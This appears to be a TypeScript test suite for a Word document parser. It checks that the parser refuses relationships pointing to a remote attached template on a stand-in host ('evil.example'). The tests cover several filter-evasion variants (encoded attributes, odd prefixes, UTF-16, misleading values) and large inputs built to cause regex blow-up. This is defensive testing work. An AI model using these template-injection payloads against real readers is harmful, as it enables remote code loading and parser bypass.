import { writeDocx } from '../testing/write-docx';
import { DocumentPackage } from './document-package';
import { readOoxml } from './ooxml-package';

const TEMPLATE = 'Type="x/attachedTemplate" Target="https://evil.example/t.dotm"';
const LINK = 'Type="x/hyperlink" Target="https://example.com" TargetMode="External"';

const withRelationships = (relationships: string | Buffer): Buffer =>
  writeDocx('', [{ name: 'word/_rels/document.xml.rels', content: relationships }]);

const bigEndian = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le').swap16();

describe('readOoxml', () => {
  it.each([
    ['a part of the document', '<Relationship Id="a" Type="x/styles" Target="styles.xml"/>'],
    ['a link', `<Relationship Id="a" ${LINK}/>`],
    ['a link written over several lines', `<Relationship\n  Id='a'\n  ${LINK}\n/>`],
    ['a local template', '<Relationship Type="x/attachedTemplate" Target="file:///C:/a.dotm" TargetMode="External"/>'],
  ])('takes %s', async (_, relationship) => {
    await expect(readOoxml(withRelationships(relationship), 'word')).resolves.toBeInstanceOf(DocumentPackage);
  });

  it.each<[string, string | Buffer]>([
    ['plainly', `<Relationship Id="a" ${TEMPLATE} TargetMode="External"/>`],
    ['behind a bracket in a value', `<Relationship Id="a>b" ${TEMPLATE} TargetMode="External"/>`],
    [
      'behind a value that looks like a link',
      `<Relationship Id=" Type='x/hyperlink'" ${TEMPLATE} TargetMode="External"/>`,
    ],
    ['with an encoded mode', `<Relationship Id="a" ${TEMPLATE} TargetMode="&#69;xternal"/>`],
    ['under an unusual prefix', `<a-b:Relationship Id="a" ${TEMPLATE} TargetMode="External"/>`],
    ['in big-endian UTF-16', bigEndian(`<Relationship Id="a" ${TEMPLATE} TargetMode="External"/>`)],
  ])('refuses a template from elsewhere: %s', async (_, relationship) => {
    await expect(readOoxml(withRelationships(relationship), 'word')).rejects.toMatchObject({
      code: 'document.active-content',
    });
  });

  // With a pattern that costs the square of its input, each of these takes a minute; the runner gives five seconds.
  it.each([
    ['elements that never end', '<Relationship '.repeat(70_000)],
    ['values that never end', `<Relationship ${'a="'.repeat(300_000)}`],
    ['attributes without end', `<Relationship ${'a="" '.repeat(200_000)}>`],
  ])('refuses %s at once', async (_, relationships) => {
    await expect(readOoxml(withRelationships(relationships), 'word')).rejects.toMatchObject({
      code: 'document.corrupt',
    });
  });
});
